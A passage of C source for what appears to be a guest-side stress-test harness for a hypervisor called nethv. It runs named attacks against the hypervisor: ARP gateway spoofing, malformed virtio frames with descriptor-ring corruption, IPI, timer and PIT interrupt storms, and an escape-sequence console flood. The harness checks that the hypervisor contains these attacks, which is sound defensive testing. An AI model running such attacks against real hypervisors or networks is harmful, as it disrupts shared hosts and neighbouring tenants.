        "   movl %%cr4, %%eax\n   orl $0x20, %%eax\n   movl %%eax, %%cr4\n"    /* PAE */
        "   movl %1, %%cr3\n"
        "   movl $0xc0000080, %%ecx\n   rdmsr\n   orl $0x100, %%eax\n   wrmsr\n"    /* EFER.LME */
        "   lgdt dl_gdtr\n"
        "   movl %%cr0, %%eax\n   orl $0x80000000, %%eax\n   movl %%eax, %%cr0\n"
        "   ljmp $0x08, $dl_long\n"
        :: "r"((uint32_t)dl_slot), "r"((uint32_t)dl_pml4) : "eax", "ecx", "edx", "memory");
}

/* ---- gw_spoof: the uplink's gateway, and a Linux neighbour ----
 * For qemu-net's uplink-attack case (config/net-uplink-attack.dts): device
 * 0 sends from the MAC of QEMU's user-network gateway (52:55:0a:00:02:02,
 * 10.0.2.2, which the switch learns on its uplink), from the Linux VM's
 * static MAC, and from random ones, to the Linux VM and to broadcast,
 * ARP replies that say 10.0.2.2 is here; device 1 floods broadcasts.  The
 * Linux VM must get its lease and its pings to the gateway through. */
static void gw_spoof(void)
{
    static const uint8_t gw[6] = { 0x52, 0x55, 0x0a, 0x00, 0x02, 0x02 };
    static const uint8_t lin[6] = { 0x52, 0x54, 0x00, 0x00, 0x00, 0x0a };
    if (!two_devs_up("gw_spoof", NULL, false))
        return;
    while (rdtsc64() < phase_end) {
        uint8_t src[6] = { 0x02, 0, 0, 0, 0, 0 };
        uint32_t r = rand32();
        for (unsigned i = 1; i < 6; i++)
            src[i] = (uint8_t)(r >> (5 * i));
        const uint8_t *from = (count % 3) == 0 ? gw : (count % 3) == 1 ? lin : src;
        const uint8_t *to = (count & 1) ? bcast : lin;
        /* an ARP reply (ethertype 0x0806): 10.0.2.2 is at `from` */
        uint8_t *f = vnet_tx_prep(&devs[0], to, from, 60, 0, 0, 0);
        f[12] = 0x08;
        f[13] = 0x06;
        static const uint8_t arp[8] = { 0, 1, 8, 0, 6, 4, 0, 2 };
        for (unsigned i = 0; i < 8; i++)
            f[14 + i] = arp[i];
        for (unsigned i = 0; i < 6; i++)
            f[22 + i] = from[i];
        f[28] = 10; f[29] = 0; f[30] = 2; f[31] = 2;
        vnet_tx_post(&devs[0]);
        vnet_tx(&devs[1], bcast, devs[1].mac, 60, 0, 0, 0);
        count++;
    }
}

/* ---- tx_flood: frames that are wrong, from both vCPUs ----
 * Each vCPU sends on its own device, in turn, runts (shorter than an
 * Ethernet header), oversize frames (2036 bytes), and frames whose checksum
 * offsets point past their end: each must be dropped and counted as
 * malformed or oversize.  The second vCPU also rewrites device 0's TX
 * descriptors and ring at random while the first kicks it: whatever the
 * walk finds, it must end. */
static volatile uint32_t ap_count, ap_stop;

static void bad_frame(struct vdev *d, uint32_t n)
{
    switch (n % 3) {
    case 0: vnet_tx(d, bcast, d->mac, 10, 0, 0, 0); break;
    case 1: vnet_tx(d, bcast, d->mac, PKT_MAX - VIRTIO_NET_HDR_LEN, 0, 0, 0); break;
    case 2: vnet_tx(d, bcast, d->mac, 60, VIRTIO_NET_HDR_F_NEEDS_CSUM, 50, 30); break;
    }
}

static void tx_flood_ap(void)
{
    uint32_t r = 0x9e3779b9u;
    struct vq *q0 = &devs[0].q[1];
    while (!__atomic_load_n(&ap_stop, __ATOMIC_ACQUIRE)) {
        bad_frame(&devs[1], ap_count);
        for (unsigned k = 0; k < 4; k++) {
            r ^= r << 13;
            r ^= r >> 17;
            r ^= r << 5;
            unsigned i = r % QN;
            q0->desc[i].len = r >> 20;
            q0->desc[i].flags = (uint16_t)(r >> 8) & (VRING_DESC_F_NEXT | VRING_DESC_F_WRITE);
            q0->desc[i].next = (uint16_t)(r >> 16) % (QN + 2);
            q0->avail.ring[(r >> 4) % QN] = (uint16_t)(r >> 24) % (QN + 2);
        }
        __atomic_add_fetch(&ap_count, 1, __ATOMIC_RELEASE);
    }
    __atomic_store_n(&ap_stop, 2, __ATOMIC_RELEASE);   /* seen: the count is final */
}

static void tx_flood(void)
{
    if (!two_devs_up("tx_flood", NULL, true))
        return;
    if (!vnet_setup(&devs[1], true, NULL)) {
        print("atk: FAIL tx_flood: device 1 did not come up\n");
        return;
    }
    ap_task = tx_flood_ap;
    while (rdtsc64() < phase_end) {
        bad_frame(&devs[0], count);
        count++;
        if ((count & 255) == 0 && (mr8(devs[0].common + VIRTIO_PCI_COMMON_STATUS) &
                                   VIRTIO_STATUS_NEEDS_RESET)) {
            vnet_resets++;
            vnet_setup(&devs[0], true, NULL);
        }
    }
    __atomic_store_n(&ap_stop, 1, __ATOMIC_RELEASE);
    for (uint32_t i = 0; i < 100000000u && __atomic_load_n(&ap_stop, __ATOMIC_ACQUIRE) != 2; i++)
        __asm__ volatile("pause");
    print("atk: second vCPU made %u bad frames\n", ap_count);
}

/* ---- sipi_storm: the ICR aimed at the other vCPU ----
 * INIT, SIPI, NMI and fixed IPIs at the second vCPU, and fixed IPIs at APIC
 * IDs that do not exist and to all-but-self, as fast as the ICR takes them:
 * nethv must handle each without letting it cost the neighbours. */
static void on_ap_vec(struct guest_frame *f)
{
    mmio_write32(LAPIC + 0xb0, 0);
}

static void sipi_storm(void)
{
    set_handler(64, on_ap_vec);
    set_handler(2, on_ap_vec);
    while (rdtsc64() < phase_end) {
        switch (count % 6) {
        case 0: icr_send(1, 0x4500); break;             /* INIT */
        case 1: icr_send(1, 0x4600 | (0x8000 >> 12)); break;  /* SIPI */
        case 2: icr_send(1, 0x4400); break;             /* NMI */
        case 3: icr_send(1, 64); break;                 /* fixed */
        case 4: icr_send(0x37, 64); break;              /* no such APIC */
        case 5: icr_send(0, 0xc0000 | 64); break;       /* all but self */
        }
        count++;
    }
}

/* ---- lapic_storm ---- */
static void on_timer(struct guest_frame *f)
{
    count++;
    mmio_write32(LAPIC + 0xb0, 0);      /* EOI */
}

static void lapic_storm(void)
{
    set_handler(48, on_timer);
    mmio_write32(LAPIC + 0xf0, (1u << 8) | 0xff);      /* SVR: enabled */
    mmio_write32(LAPIC + 0x3e0, 0xb);                  /* divide by 1 */
    mmio_write32(LAPIC + 0x320, 48 | (1u << 17));      /* periodic, vector 48 */
    mmio_write32(LAPIC + 0x380, 1);                    /* initial count 1 */
    __asm__ volatile("sti");
    while (rdtsc64() < phase_end)
        __asm__ volatile("pause");
    __asm__ volatile("cli");
    mmio_write32(LAPIC + 0x380, 0);
    mmio_write32(LAPIC + 0x320, 1u << 16);             /* masked */
}

/* ---- pit_storm ---- */
#define IOAPIC 0xfec00000u

static void ioapic_write(unsigned reg, uint32_t v)
{
    mmio_write32(IOAPIC, reg);
    mmio_write32(IOAPIC + 0x10, v);
}

static void on_irq0(struct guest_frame *f)
{
    count++;
    mmio_write32(LAPIC + 0xb0, 0);      /* EOI */
}

static void pit_storm(void)
{
    set_handler(32, on_irq0);
    mmio_write32(LAPIC + 0xf0, (1u << 8) | 0xff);
    ioapic_write(0x10 + 2 * 2 + 1, 0);  /* pin 2: to APIC ID 0 */
    ioapic_write(0x10 + 2 * 2, 32);     /* fixed, edge, vector 32, unmasked */
    outb(0x43, 0x34);                   /* channel 0, lo/hi, rate generator */
    outb(0x40, 1);
    outb(0x40, 0);
    __asm__ volatile("sti");
    while (rdtsc64() < phase_end)
        __asm__ volatile("pause");
    __asm__ volatile("cli");
    ioapic_write(0x10 + 2 * 2, 1u << 16);
    outb(0x43, 0x30);                   /* channel 0, mode 0: no more edges */
}

/* ---- ipi_storm ---- */
static void on_ipi(struct guest_frame *f)
{
    count++;
    mmio_write32(LAPIC + 0xb0, 0);
}

static void ipi_storm(void)
{
    set_handler(64, on_ipi);
    mmio_write32(LAPIC + 0xf0, (1u << 8) | 0xff);
    __asm__ volatile("sti");
    while (rdtsc64() < phase_end)
        mmio_write32(LAPIC + 0x300, (1u << 18) | 64);  /* fixed, self */
    __asm__ volatile("cli");
}

/* ---- console_flood ---- */
static void console_flood(void)
{
    while (rdtsc64() < phase_end) {
        /* clear screen, cursor home, bell, set the window title */
        puts_("flood \x1b[2J\x1b[H\x07\x1b]0;pwned\x07 0123456789abcdef0123456789abcdef\n");
        count++;
    }
}

static const struct {
    const char *name, *unit;
    void (*run)(void);
} attacks[] = {
    { "db_storm", "single-step #DBs", db_storm },
    { "wbinvd", "WBINVDs", wbinvd_loop },
    { "state_write", "DR, SPEC_CTRL and PKRU checks", state_write },
    { "lapic_storm", "timer interrupts", lapic_storm },
    { "pit_storm", "PIT interrupts", pit_storm },
    { "ipi_storm", "self-IPIs taken", ipi_storm },
    { "console_flood", "lines", console_flood },
    { "rx_zero", "broadcasts", rx_zero },
    { "desc_loop", "lying kicks", desc_loop },
    { "msix_low", "frames", msix_low },
    { "mac_flood", "spoofed frames", mac_flood },
    { "tx_flood", "bad frames", tx_flood },
    { "sipi_storm", "ICR writes", sipi_storm },
    { "gw_spoof", "spoofed frames", gw_spoof },
    { "ac_loop", "loops", ac_loop },
    { "db_loop", "loops", db_loop },
};

int guest_main(uint32_t magic, uint32_t mbi)
{
    outb(0x21, 0xff);                   /* 8259s masked (a BIOS may leave IRQ 0 on) */
    outb(0xa1, 0xff);
    idt_install();
    parse_cmdline(magic, mbi);
    vnet_probe();
    bool ap_up = ap_start(ap_loop, ap_stack, sizeof(ap_stack));
    unsigned a = 0;
    while (a < sizeof(attacks) / sizeof(attacks[0]) && !streq(attacks[a].name, attack))
        a++;
    if (a == sizeof(attacks) / sizeof(attacks[0])) {
        print("atk: FAIL unknown attack '%s'\n", attack);
        return 2;
    }
    if (!ap_up && (attacks[a].run == tx_flood || attacks[a].run == sipi_storm)) {
        print("atk: FAIL %s: the second vCPU did not start\n", attack);
        return 2;
    }
    uint64_t w = 1ull << phase_shift;
    uint64_t t = (rdtsc64() >> phase_shift << phase_shift) + w;
    while (rdtsc64() < t)
        ;
    print("atk: idle %u\n", (uint32_t)(t >> 10));
    phase_end = t + (idle_windows ? idle_windows : phase_windows) * w;
    while (rdtsc64() < phase_end)
        ;
    print("atk: attack %s %u\n", attacks[a].name, (uint32_t)(phase_end >> 10));
    phase_end += phase_windows * w;
    count = 0;
    attacks[a].run();
    __atomic_store_n(&ap_quit, 1, __ATOMIC_RELEASE);
    uint64_t end = rdtsc64();
    if (attacks[a].run == console_flood) {
        /* the flood emptied this VM's console allowance (config/attack.dts:
         * 256 bytes/s): 2 s of quiet refill it for the lines below */
        uint64_t hz = tsc_hz_guess();
        while (rdtsc64() < end + 2 * hz)
            __asm__ volatile("pause");
    }
    print("atk: end %u\n", (uint32_t)(end >> 10));
    if (attacks[a].run == state_write) {
        if (dr_lost)
            print("atk: FAIL state_write: this guest's own DR0/DR3 changed %u times\n", dr_lost);
        if (spec_lost)
            print("atk: FAIL state_write: this guest's own SPEC_CTRL (%x) was lost %u times\n",
                  spec_bits, spec_lost);
        if (pkru_read)
            print("atk: FAIL state_write: RDPKRU read PKRU %u times (no PKU is offered)\n", pkru_read);
        if (!spec_bits && spec_read_ok)
            print("atk: FAIL state_write: SPEC_CTRL not offered, yet %u reads did not fault\n",
                  spec_read_ok);
        print("atk: SPEC_CTRL bits offered %x, reads refused %u; RDPKRU #UD %u times\n", spec_bits, spec_gp,
              pkru_ud);
    }
    if (vnet_resets)
        print("atk: device resets %u\n", vnet_resets);
    print("atk: done %s made %u %s\n", attacks[a].name, count, attacks[a].unit);
    return 0;
}
